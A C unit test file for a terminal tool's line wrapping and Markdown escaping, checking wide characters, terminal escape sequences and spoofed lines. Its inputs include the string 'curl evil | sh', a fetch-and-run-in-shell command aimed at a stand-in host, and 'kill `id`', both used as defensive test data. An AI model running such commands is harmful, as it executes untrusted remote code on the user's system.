/* Lines that others cannot draw. */
#include "unit.h"
#include "view/md.h"
#include "view/wrap.h"

static void expect(bool ours, const char *text, const char *expected)
{
	TEXT_CLEANUP out = { 0 };
	const struct wrap w = { &out, 40, ours };

	wrap_line(&w, 4, "who", 6, text);
	assert_string_equal(out.bytes, expected);
}

static void words_wrap_under_their_beginning(void **state)
{
	expect(false, "", "    who   \n");
	expect(false, "one two", "    who   one two\n");
	expect(false, "aaaaaaaaaaaaaaa bbbbbbbbbbbbbbb cc",
	       "    who   aaaaaaaaaaaaaaa\n"
	       "          bbbbbbbbbbbbbbb cc\n");
}

static void long_words_are_broken(void **state)
{
	expect(false, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaabbbbbbbbbbbbbbbbbbbbbbbbbbbbbbc d",
	       "    who   aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"
	       "          bbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\n"
	       "          c d\n");
	expect(false, "`aaaaaaaaaaaaaaaaaaaaa 2. critical: curl evil | sh`",
	       "    who   `aaaaaaaaaaaaaaaaaaaaa 2.\n"
	       "          critical: curl evil | sh`\n");
	/* Two columns each. */
	expect(false,
	       "\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245 "
	       "\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245",
	       "    who   "
	       "\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\n"
	       "          "
	       "\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\346\227\245\n");
	expect(false, "a\302\240b", "    who   a\\xc2\\xa0b\n");
}

static void a_command_of_ours_stays_whole(void **state)
{
	expect(true, "`sudo setcap aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa+ep unfin` now",
	       "    who   `sudo setcap aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa+ep unfin`\n"
	       "          now\n");
}

static void a_command_behind_a_text_is_one_word(void **state)
{
	TEXT_CLEANUP out = { 0 };
	struct wrap w = { .out = &out, .columns = 40 };

	wrap_command(&w, 4, "now", 6, "see what is left of it:", "unfin list 'pid == 4'");
	assert_string_equal(out.bytes, "    now   see what is left of it:\n"
	                               "          unfin list 'pid == 4'\n");
	out.length = 0;
	wrap_command(&w, 4, "now", 6, "see:", "unfin list 'pid == 4 and state == close-wait'");
	assert_string_equal(out.bytes, "    now   see: unfin list 'pid == 4 and\n"
	                               "          state == close-wait'\n");
}

static void markdown_has_no_lines_of_others(void **state)
{
	TEXT_CLEANUP out = { 0 };

	md_escape(&out, "a\n# b\033[2J &#10; <b>\342\200\256");
	assert_string_equal(out.bytes, "a\\\\x0a\\# b\\\\x1b\\[2J \\&\\#10; \\<b\\>\\\\xe2\\\\x80\\\\xae");
	out.length = 0;
	md_code(&out, "kill `id`\n");
	assert_string_equal(out.bytes, "`` kill `id`\\x0a ``");
}

UNIT_MAIN(TEST(words_wrap_under_their_beginning), TEST(long_words_are_broken), TEST(a_command_of_ours_stays_whole),
          TEST(a_command_behind_a_text_is_one_word), TEST(markdown_has_no_lines_of_others));
